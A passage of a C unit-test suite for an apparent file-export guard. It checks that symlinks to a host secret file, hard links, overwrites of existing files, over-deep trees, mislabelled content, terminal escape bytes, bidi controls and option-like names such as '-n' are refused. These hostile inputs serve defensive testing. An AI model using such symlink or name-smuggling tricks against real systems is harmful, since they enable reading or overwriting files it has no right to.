	refused(w, "table.csv", WARD_XR_MISMATCH);
	refused(w, "report.pdf", WARD_XR_NAME);
	refused(w, "page.txt", WARD_XR_TYPE);
	assert_int_equal(entry(w, "page.txt")->type, WARD_EXPORT_T_HTML);
	refused(w, "run.sh", WARD_XR_NAME);
	assert_string_equal(dest_names(w, NULL), "real.png");
}

/* ---------------------------------------------------- all or nothing */

static void refuse_exports_nothing(void **state)
{
	struct world *w = *state;
	char p[512], target[256];

	w->rule.on_violation = WARD_EXPORT_REFUSE;
	put_in(w, "a.csv", csv, strlen(csv));
	put_in(w, "b.png", png, sizeof(png) - 1);
	mkdir_in(w, "c");
	put_in(w, "c/d.csv", csv, strlen(csv));
	snprintf(target, sizeof(target), "%s/secret", w->around);
	path_of(w, p, sizeof(p), w->slot, "c/e.csv");
	assert_int_equal(symlink(target, p), 0);
	put_in(w, "z.csv", csv, strlen(csv));
	run(w, NULL);
	assert_false(w->res.exported);
	assert_int_equal(w->res.refusal, WARD_XR_SYMLINK);
	assert_string_equal(w->res.refusal_path, "c/e.csv");
	assert_int_equal(entry(w, "a.csv")->verdict, WARD_XV_WITHHELD);
	assert_int_equal(entry(w, "c/d.csv")->verdict, WARD_XV_WITHHELD);
	/* the walk stopped at the violation: z.csv was never looked at */
	for (size_t i = 0; i < w->res.n; i++)
		assert_string_not_equal(w->res.entries[i].path, "z.csv");
	assert_int_equal(w->res.files, 0);
	assert_string_equal(dest_names(w, NULL), "");
	assert_non_null(strstr(w->manifest,
			       "\"refusal\":{\"reason\":"
			       "\"symlink\",\"path\":\"c/e.csv\"}"));
	around_intact(w);
}

static void never_over_what_is_there(void **state)
{
	struct world *w = *state;
	char p[512], target[256];

	/* The caller's directory has a data.csv and a symlink chart.png
	 * pointing at a host file: neither is written through. */
	path_of(w, p, sizeof(p), w->dest, "data.csv");
	put(p, "mine\n", 5);
	snprintf(target, sizeof(target), "%s/secret", w->around);
	path_of(w, p, sizeof(p), w->dest, "chart.png");
	assert_int_equal(symlink(target, p), 0);
	put_in(w, "data.csv", csv, strlen(csv));
	put_in(w, "chart.png", png, sizeof(png) - 1);
	put_in(w, "new.csv", csv, strlen(csv));
	run(w, NULL);
	refused(w, "data.csv", WARD_XR_EXISTS);
	refused(w, "chart.png", WARD_XR_EXISTS);
	assert_int_equal(w->res.files, 1);
	assert_string_equal(dest_names(w, NULL), "chart.png data.csv new.csv");
	path_of(w, p, sizeof(p), w->dest, "data.csv");
	char hex[65], want[65];
	uint8_t d[32];
	sha_of_file(p, hex);
	ward_sha256("mine\n", 5, d);
	ward_hex(d, 32, want);
	assert_string_equal(hex, want);
	around_intact(w);

	/* refuse: one clash takes back what went out */
	ward_export_result_free(&w->res);
	path_of(w, p, sizeof(p), w->dest, "new.csv");
	assert_int_equal(unlink(p), 0);
	w->rule.on_violation = WARD_EXPORT_REFUSE;
	run(w, NULL);
	assert_false(w->res.exported);
	assert_int_equal(w->res.refusal, WARD_XR_EXISTS);
	assert_string_equal(dest_names(w, NULL), "chart.png data.csv");
	around_intact(w);
}

static void too_deep(void **state)
{
	struct world *w = *state;
	char rel[512] = "";
	size_t n = 0;

	for (int i = 0; i < WARD_EXPORT_DEPTH_MAX + 1; i++) {
		n += (size_t)snprintf(rel + n, sizeof(rel) - n, "%sd",
				      i ? "/" : "");
		mkdir_in(w, rel);
	}
	snprintf(rel + n, sizeof(rel) - n, "/deep.csv");
	put_in(w, rel, csv, strlen(csv));
	rel[n] = 0;
	run(w, NULL);
	/* the 16th level is the last one looked into: the 17th is refused */
	refused(w, rel, WARD_XR_DEPTH);
	assert_string_equal(dest_names(w, NULL), "");
}

/* ------------------------------------------------------ content types */

#define C(s) s, sizeof(s) - 1

static void sniff_types(void **state)
{
	(void)state;
	struct {
		const char *bytes;
		size_t n;
		uint32_t want;
	} cases[] = {
	    {C("\x89PNG\r\n\x1a\nrest"), WARD_EXPORT_T_PNG},
	    {C("\xff\xd8\xff\xe0"), WARD_EXPORT_T_JPEG},
	    {C("GIF89a.."), WARD_EXPORT_T_GIF},
	    {C("RIFF\x10\0\0\0WEBPVP8 "), WARD_EXPORT_T_WEBP},
	    {C("%PDF-1.4"), WARD_EXPORT_T_PDF},
	    {C("PK\x03\x04"), WARD_EXPORT_T_ZIP},
	    {C("\x1f\x8b\x08\0"), WARD_EXPORT_T_GZIP},
	    {C("a,b\n1,2\n"), WARD_EXPORT_T_TEXT},
	    {C(""), WARD_EXPORT_T_TEXT},
	    {C("\xef\xbb\xbf  <svg xmlns='x'>"), WARD_EXPORT_T_SVG},
	    {C("<?xml version='1.0'?>\n<svg>"), WARD_EXPORT_T_SVG},
	    {C("\n<!DOCTYPE HTML>"), WARD_EXPORT_T_HTML},
	    {C("<p>hi<script>"), WARD_EXPORT_T_HTML},
	    {C("<?xml version='1.0'?><data/>"), WARD_EXPORT_T_TEXT},
	    {C("x <script>"), WARD_EXPORT_T_TEXT},
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct ward_text_check t;
		ward_text_init(&t);
		ward_text_feed(&t, (const uint8_t *)cases[i].bytes, cases[i].n);
		assert_int_equal(ward_sniff((const uint8_t *)cases[i].bytes,
					    cases[i].n, ward_text_done(&t)),
				 cases[i].want);
	}
	assert_int_equal(ward_sniff((const uint8_t *)"\x7f"
						     "ELF",
				    4, false),
			 0);
}

static bool is_text(const char *s, size_t n, size_t split)
{
	struct ward_text_check t;
	ward_text_init(&t);
	ward_text_feed(&t, (const uint8_t *)s, split);
	ward_text_feed(&t, (const uint8_t *)s + split, n - split);
	return ward_text_done(&t);
}

static void text_check(void **state)
{
	(void)state;
	/* "é", "€" and an emoji, split at every byte */
	static const char good[] =
	    "caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80\t\r\n\f";
	for (size_t k = 0; k <= sizeof(good) - 1; k++)
		assert_true(is_text(good, sizeof(good) - 1, k));
	assert_false(is_text("a\0b", 3, 1));		 /* NUL */
	assert_false(is_text("a\x1b[2Jb", 6, 2));	 /* ESC */
	assert_false(is_text("a\x7f", 2, 0));		 /* DEL */
	assert_false(is_text("\xc2\x9b", 2, 1));	 /* C1 CSI */
	assert_false(is_text("\xc0\xaf", 2, 0));	 /* overlong */
	assert_false(is_text("\xed\xa0\x80", 3, 1));	 /* surrogate */
	assert_false(is_text("\xf4\x90\x80\x80", 4, 2)); /* > U+10FFFF */
	assert_false(is_text("ab\xe2\x82", 4, 4));	 /* cut short */
	assert_false(is_text("\xff", 1, 0));
}

static void name_claims_and_problems(void **state)
{
	(void)state;
	assert_int_equal(ward_name_claims("chart.PNG"), WARD_EXPORT_T_PNG);
	assert_int_equal(ward_name_claims("a.b.csv"), WARD_EXPORT_T_TEXT);
	assert_int_equal(ward_name_claims("photo.jpg"), WARD_EXPORT_T_JPEG);
	assert_int_equal(ward_name_claims("Makefile"), 0);
	assert_int_equal(ward_name_claims(".csv"), 0); /* a hidden name */
	assert_int_equal(ward_name_claims("x.unknownext"), 0);
	assert_null(ward_name_problem("report final (2).csv"));
	assert_null(ward_name_problem("r\xc3\xa9sum\xc3\xa9.txt"));
	assert_null(ward_name_problem(".hidden"));
	assert_non_null(ward_name_problem("-n"));
	assert_non_null(ward_name_problem("a\tb"));
	assert_non_null(ward_name_problem("a\x7f"));
	assert_non_null(ward_name_problem("\xe2\x81\xa6x")); /* U+2066 */
	assert_non_null(ward_name_problem("\xc0\x80"));
	assert_non_null(ward_name_problem(".."));
	assert_non_null(ward_name_problem(""));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test_setup_teardown(exports_csv_and_png, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(symlink_to_host_file, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(symlink_to_dir_and_dotdot, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(hard_link_to_host_file, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(fifo_is_never_opened, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(device_and_socket, setup, teardown),
	    cmocka_unit_test_setup_teardown(file_grows_while_exported, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(file_grows_in_another_thread, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(many_small_files, setup, teardown),
	    cmocka_unit_test_setup_teardown(one_file_over_the_cap, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(total_over_the_cap, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(nine_files_past_the_total, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(publication_is_marked, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(interrupted_publication, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(archives_are_inspected, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(csv_formulas_flagged, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(hostile_names, setup, teardown),
	    cmocka_unit_test_setup_teardown(png_that_is_a_script, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(refuse_exports_nothing, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(never_over_what_is_there, setup,
					    teardown),
	    cmocka_unit_test_setup_teardown(too_deep, setup, teardown),
	    cmocka_unit_test(sniff_types),
	    cmocka_unit_test(text_check),
	    cmocka_unit_test(name_claims_and_problems),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
